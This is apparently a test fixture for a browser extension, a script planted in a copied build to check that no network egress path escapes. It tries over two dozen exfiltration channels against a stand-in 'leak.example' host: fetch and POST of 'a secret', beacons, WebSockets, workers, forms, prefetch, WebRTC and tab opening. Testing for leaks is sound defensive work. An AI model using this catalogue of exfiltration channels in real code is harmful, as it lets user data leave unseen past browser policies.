// A planted leak: tries every way out of the context it runs in, each to a host that names way and context. Read as text
// by `leaks.ts` and appended to the scripts of a copied build; never part of the extension.
(() => {
  const context = '__CONTEXT__';
  const at = (way, scheme = 'https') => `${scheme}://${way}.${context}.leak.example/`;
  const add = (name, values) => document.documentElement.append(Object.assign(document.createElement(name), values));
  const link = (rel, way, values = {}) => add('link', { rel, href: at(way), ...values });
  const kept = [];
  /** What each way needs, and how it is tried. */
  const ways = {
    fetch: ['fetch', () => fetch(at('fetch'))],
    post: ['fetch', () => fetch(at('post'), { method: 'POST', mode: 'no-cors', body: 'a secret' })],
    local: ['fetch', () => fetch(`http://127.0.0.1:45901/local.${context}`, { mode: 'no-cors' })],
    xhr: [
      'XMLHttpRequest',
      () => {
        const request = new XMLHttpRequest();
        request.open('GET', at('xhr'));
        request.send();
      },
    ],
    websocket: ['WebSocket', () => kept.push(new WebSocket(at('websocket', 'wss')))],
    eventsource: ['EventSource', () => kept.push(new EventSource(at('eventsource')))],
    webtransport: ['WebTransport', () => new WebTransport(`${at('webtransport').slice(0, -1)}:443/`).ready],
    beacon: ['document', () => navigator.sendBeacon(at('beacon'), 'a secret')],
    import: ['Promise', () => import(at('import'))],
    worker: ['Worker', () => kept.push(new Worker(at('worker')))],
    image: ['Image', () => Object.assign(new Image(), { src: at('image') })],
    audio: ['Audio', () => new Audio(at('audio')).load()],
    font: ['FontFace', () => new FontFace('leak', `url(${at('font')})`).load()],
    script: ['document', () => add('script', { src: at('script') })],
    style: ['document', () => link('stylesheet', 'style')],
    css: ['document', () => add('style', { textContent: `:root{--a:0;background:url(${at('css')})}` })],
    frame: ['document', () => add('iframe', { src: at('frame') })],
    object: ['document', () => add('object', { data: at('object') })],
    form: [
      'document',
      () => {
        add('iframe', { name: 'leak' });
        const form = Object.assign(document.createElement('form'), { action: at('form'), target: 'leak' });
        document.documentElement.append(form);
        form.submit();
      },
    ],
    prefetch: ['document', () => link('prefetch', 'prefetch')],
    preload: ['document', () => link('preload', 'preload', { as: 'image' })],
    preconnect: ['document', () => link('preconnect', 'preconnect')],
    dns: ['document', () => link('dns-prefetch', 'dns')],
    rtc: [
      'RTCPeerConnection',
      () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:rtc.${context}.leak.example` }] });
        kept.push(peer, peer.createDataChannel('leak'));
        return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
      },
    ],
    open: ['open', () => open(at('open'))],
    tabs: ['chrome', () => chrome.tabs.create({ url: at('tabs'), active: false })],
  };
  const tried = [];
  for (const [way, [needed, go]] of Object.entries(ways)) {
    if (!(needed in globalThis) || (way === 'tabs' && !globalThis.chrome?.tabs)) continue;
    tried.push(way);
    try {
      Promise.resolve(go()).catch(() => {});
    } catch {
      // Refused on the spot.
    }
  }
  globalThis.leakKept = kept;
  if (location.protocol === 'https:') document.documentElement.setAttribute(`data-leak-${context}`, tried.join());
  else {
    const channel = new BroadcastChannel('leaks');
    channel.onmessage = ({ data }) => data === 'who' && channel.postMessage({ context, tried });
    kept.push(channel);
  }
})();
